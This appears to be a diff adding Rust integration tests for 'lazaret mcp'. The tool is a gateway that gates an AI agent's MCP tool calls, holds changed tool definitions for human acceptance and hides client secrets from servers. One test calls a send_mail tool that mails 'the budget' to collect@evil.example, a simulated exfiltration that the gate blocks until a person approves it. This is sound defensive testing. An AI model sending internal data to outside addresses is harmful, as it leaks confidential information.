@@ -1,0 +1,230 @@
+//! `lazaret mcp` as a program, before a real server: calls are judged, definitions kept, results taken in.
+
+#![expect(
+    clippy::indexing_slicing,
+    clippy::unwrap_used,
+    reason = "test helpers; clippy's exceptions cover only `#[test]` functions"
+)]
+
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::path::{Path, PathBuf};
+use std::process::{Child, ChildStdin, ChildStdout, Stdio};
+
+use serde_json::{Value, json};
+use testkit::program::Run as _;
+
+use crate::program::lazaret;
+
+fn server() -> String {
+    let path: PathBuf =
+        Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus/mcp-server/server.py");
+    path.display().to_string()
+}
+
+/// A client that speaks to the server through the gateway.
+struct Client {
+    child: Child,
+    to: Option<ChildStdin>,
+    from: BufReader<ChildStdout>,
+    next: u64,
+}
+
+impl Client {
+    fn start(home: &Path, more: &[&str]) -> Self {
+        let server = server();
+        let mut words = vec!["mcp", "--name", "notes", "--", "python3", "-B", server.as_str()];
+        words.extend(more);
+        Self::of(home, &words)
+    }
+
+    fn of(home: &Path, words: &[&str]) -> Self {
+        let mut child = lazaret(home, words)
+            .env("SECRET_OF_THE_CLIENT", "x")
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let to = child.stdin.take();
+        let from = BufReader::new(child.stdout.take().unwrap());
+        let mut client = Self { child, to, from, next: 0 };
+        let params = json!({
+            "protocolVersion": "2025-06-18", "capabilities": {},
+            "clientInfo": { "name": "test", "version": "1" },
+        });
+        let said = client.ask("initialize", params);
+        assert!(said["result"]["serverInfo"]["name"].is_string(), "{said}");
+        client.say(&json!({ "jsonrpc": "2.0", "method": "notifications/initialized" }));
+        client
+    }
+
+    fn say(&mut self, message: &Value) {
+        writeln!(self.to.as_mut().unwrap(), "{message}").unwrap();
+    }
+
+    fn ask(&mut self, method: &str, params: Value) -> Value {
+        self.next += 1;
+        let id = self.next;
+        self.say(&json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params }));
+        loop {
+            let mut line = String::new();
+            assert_ne!(self.from.read_line(&mut line).unwrap(), 0, "it ended");
+            let said: Value = serde_json::from_str(&line).unwrap();
+            if said["id"] == id {
+                return said;
+            }
+        }
+    }
+
+    fn tools(&mut self) -> Vec<String> {
+        let said = self.ask("tools/list", json!({}));
+        let tools = said["result"]["tools"].as_array().unwrap().clone();
+        tools.iter().map(|it| it["name"].as_str().unwrap().to_owned()).collect()
+    }
+
+    /// Is it an error, and what does it say?
+    fn call(&mut self, name: &str, arguments: Value) -> (bool, String) {
+        let said = self.ask("tools/call", json!({ "name": name, "arguments": arguments }));
+        let result = &said["result"];
+        let text = result["content"][0]["text"].as_str().unwrap_or_default().to_owned();
+        (result["isError"] == true, if text.is_empty() { said.to_string() } else { text })
+    }
+
+    fn end(mut self) {
+        drop(self.to.take());
+        assert!(self.child.wait().unwrap().success());
+    }
+}
+
+fn stop(home: &Path) {
+    lazaret(home, &["daemon", "stop"]).run();
+}
+
+fn records(home: &Path, kind: &str) -> Vec<Value> {
+    lazaret(home, &["evidence", "query", "--kind", kind, "--json"]).run().objects()
+}
+
+#[test]
+fn calls_pass_the_gate_and_what_nobody_asked_for_is_asked_about() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let mut client = Client::start(home, &[]);
+    assert_eq!(client.tools(), ["look", "send_mail", "crash"]);
+    let (failed, text) = client.call("look", json!({ "name": "plain" }));
+    assert_eq!((failed, text.as_str()), (false, "The meeting is at nine."));
+    let (failed, text) = client.call("look", json!({ "nam": "plain" }));
+    assert!(failed && text.contains("name"), "the schema is kept: {text}");
+    client.call("look", json!({ "name": "orders" }));
+    let mail = json!({ "to": "collect@evil.example", "body": "the budget" });
+    let (failed, text) = client.call("send_mail", mail.clone());
+    assert!(failed && text.contains("lazaret approvals approve"), "{text}");
+    // A person says yes to exactly this call; it passes once.
+    let waiting = lazaret(home, &["approvals", "--json"]).run().objects();
+    let id = waiting[0]["id"].as_str().unwrap().to_owned();
+    let yes = ["approvals", "approve", &id, "--yes", "--by", "me"];
+    assert_eq!(lazaret(home, &yes).run().code, 0);
+    assert_eq!(client.call("send_mail", mail), (false, "sent to collect@evil.example".to_owned()));
+    // The server sees nothing of the client's environment.
+    let (_, names) = client.call("look", json!({ "name": "environment" }));
+    assert!(names.contains("PATH") && !names.contains("SECRET_OF_THE_CLIENT"), "{names}");
+    client.end();
+    assert!(!records(home, "mcp_lifecycle").is_empty());
+    stop(home);
+}
+
+#[test]
+fn a_definition_that_changes_is_held_until_a_person_accepts_it() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let mut first = Client::start(home, &[]);
+    first.tools();
+    first.end();
+    let mut changed = Client::start(home, &["--changed"]);
+    assert_eq!(changed.tools(), ["send_mail", "crash"]);
+    assert!(changed.call("look", json!({ "name": "plain" })).0);
+    changed.end();
+    assert_eq!(records(home, "mcp_definition_changed").len(), 1);
+    let listed = lazaret(home, &["mcp", "list"]).run();
+    assert!(listed.out.contains("held, because they changed: look"), "{}", listed.out);
+    let accepted = lazaret(home, &["mcp", "accept", "notes", "--by", "me"]).run();
+    assert!(accepted.out.contains("and more"), "{}", accepted.out);
+    let mut again = Client::start(home, &["--changed"]);
+    assert_eq!(again.tools(), ["look", "send_mail", "crash"]);
+    again.end();
+    stop(home);
+}
+
+#[test]
+fn a_server_that_crashes_and_a_daemon_that_is_killed_leave_readable_answers() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let mut client = Client::start(home, &[]);
+    client.tools();
+    stop(home);
+    let (failed, text) = client.call("look", json!({ "name": "plain" }));
+    assert_eq!((failed, text.as_str()), (false, "The meeting is at nine."), "it was started again");
+    let (_, text) = client.call("crash", json!({}));
+    assert!(text.contains("notes"), "{text}");
+    drop(client.to.take());
+    client.child.wait().unwrap();
+    stop(home);
+}
+
+#[test]
+#[expect(clippy::disallowed_methods, reason = "a file of the test's own")]
+fn several_servers_stand_behind_one_endpoint() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let one = json!({ "command": "python3", "args": ["-B", server()], "env": { "GIVEN": "x" } });
+    let config = json!({ "mcpServers": { "a": one, "b": one } });
+    let file = dir.path().join("servers.json");
+    std::fs::write(&file, config.to_string()).unwrap();
+    let file = file.display().to_string();
+    let mut client = Client::of(home, &["mcp", "serve", "--config", &file]);
+    assert_eq!(client.tools().len(), 6);
+    let (_, names) = client.call("b__look", json!({ "name": "environment" }));
+    assert!(names.contains("GIVEN"), "{names}");
+    client.call("a__crash", json!({}));
+    let (failed, text) = client.call("b__look", json!({ "name": "plain" }));
+    assert_eq!((failed, text.as_str()), (false, "The meeting is at nine."), "the other goes on");
+    client.end();
+    stop(home);
+}
+
+#[test]
+fn a_call_that_a_hook_has_judged_is_judged_once() {
+    let dir = tempfile::tempdir().unwrap();
+    let home = &dir.path().join("state");
+    let mut client = Client::start(home, &[]);
+    client.tools();
+    let hook = |event: &str, more: Value| {
+        let mut input = json!({
+            "session_id": "s", "cwd": "/", "transcript_path": "/x", "permission_mode": "default",
+            "hook_event_name": event,
+        });
+        input.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
+        let program = Path::new(crate::program::LAZARET).with_file_name("lazaret-hook");
+        #[expect(clippy::disallowed_methods, reason = "tests start the program that they test")]
+        let mut command = std::process::Command::new(program);
+        command.args(["claude", event]).env("LAZARET_HOME", home);
+        command.run_with(input.to_string())
+    };
+    hook("UserPromptSubmit", json!({ "prompt": "read the note plain" }));
+    let call = json!({
+        "tool_name": "mcp__notes__look", "tool_use_id": "t", "tool_input": { "name": "plain" },
+    });
+    assert_eq!(hook("PreToolUse", call.clone()).out, "");
+    let before = records(home, "door_missed").len();
+    client.call("look", json!({ "name": "plain" }));
+    let mut came = call;
+    came["tool_response"] = json!([{ "type": "text", "text": "The meeting is at nine." }]);
+    assert_eq!(hook("PostToolUse", came).out, "");
+    assert_eq!(records(home, "door_missed").len(), before);
+    let sessions = lazaret(home, &["sessions", "--json"]).run().objects();
+    let calls = |agent: &str| -> u64 {
+        let of = sessions.iter().filter(|it| it["agent"] == agent);
+        of.map(|it| it["calls"].as_u64().unwrap()).sum()
+    };
+    assert_eq!((calls("claude"), calls("mcp")), (1, 0), "{sessions:?}");
+    client.end();
+    stop(home);
+}
